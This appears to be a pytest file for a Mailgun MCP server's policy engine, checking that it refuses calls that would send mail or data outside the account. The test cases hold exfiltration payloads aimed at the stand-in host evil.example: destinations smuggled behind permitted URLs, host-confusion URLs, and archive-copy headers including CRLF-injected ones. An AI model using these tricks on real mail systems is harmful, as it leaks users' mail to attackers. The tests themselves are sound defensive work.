"""Places that one reader finds in a call and another does not.

The attacker wants data to leave for a place of theirs, where the policy lets it go to the account's own places only:
behind a permitted URL, in a URL whose host readers disagree about, or in a header that Mailgun takes for an option.
"""

import base64
from typing import Any

import pytest

from mailgun_mcp.policy.engine import decide
from mailgun_mcp.policy.facts import Facts
from tests.support.policies import facts, policy

OURS = policy("extends: unguarded\nsend: {allow_destinations: [hooks.example.com]}")
OTHERS = policy("extends: unguarded\nsend: {deny_destinations: [evil.example]}")
GUARDED = policy("extends: guarded")
EVIL = "https://evil.example/x"
MESSAGE = {"domain": "mg.example.com", "from": "a@mg.example.com", "to": ["bob@good.example"], "text": "hi"}


def refused(call: Facts) -> bool:
    return decide(OURS, call).effect == decide(OTHERS, call).effect == "deny"


@pytest.mark.parametrize(
    "action",
    [
        'forward("https://hooks.example.com/,eve@evil.example")',
        'forward("https://hooks.example.com/;eve@evil.example")',
        'forward("https://hooks.example.com/?a=1,eve@evil.example")',
        'forward("https://hooks.example.com/,https://evil.example/")',
        'store(notify="https://hooks.example.com/,https://evil.example/")',
    ],
)
def test_a_place_behind_a_url_in_the_same_text_counts(action: str) -> None:
    assert refused(facts("create_route", {"action": [action]}))


def test_many_addresses_behind_a_url_are_counted() -> None:
    targets = ",".join(f"u{number}@victims.example" for number in range(60))
    call = facts("create_route", {"expression": "catch_all()", "action": [f'forward("https://a.example/,{targets}")']})
    assert call.address_count == 60
    assert decide(GUARDED, call).effect == "confirm"


@pytest.mark.parametrize(
    "url",
    [
        "https://hooks.example.com#@evil.example/",
        "https://hooks.example.com?@evil.example/",
        "https://hooks.example.com@evil.example@hooks.example.com/",
        "https://evil.example#@hooks.example.com/",
        "https:\\\\evil.example#@hooks.example.com/",
        "https://hooks.example.com,x.evil.example/",
        "https://hooks.example.com;x.evil.example/",
    ],
)
def test_a_host_that_readers_disagree_about_is_refused(url: str) -> None:
    assert refused(facts("create_domain_webhook", {"domain": "mg.example.com", "id": "opened", "url": [url]}))
    assert refused(facts("create_route", {"action": [f'forward("{url}")']}))


@pytest.mark.parametrize("name", ["X-Mailgun-Archive-To", "x-mailgun-archive-to", " X-MAILGUN-ARCHIVE-TO "])
def test_a_header_does_not_have_mail_copied_elsewhere(name: str) -> None:
    assert refused(facts("send_message", {**MESSAGE, "headers": {name: EVIL}}))
    for header in (f"{name}: {EVIL}", f"{name}:\r\n {EVIL}", f"Subject: s\r\n{name.strip()}: {EVIL}"):
        message: Any = {"base64": base64.b64encode(f"{header}\r\n\r\nhi".encode()).decode()}
        assert refused(facts("send_mime_message", {**MESSAGE, "message": message}))
    ours = {**MESSAGE, "headers": {name: "https://hooks.example.com/"}}
    assert decide(OURS, facts("send_message", ours)).effect == "allow"


@pytest.mark.parametrize("tool", ["create_template", "update_template_version", "create_account_template_version"])
def test_a_template_does_not_have_all_its_mail_copied(tool: str) -> None:
    assert refused(facts(tool, {"headers": {"X-Mailgun-Archive-To": EVIL}}))
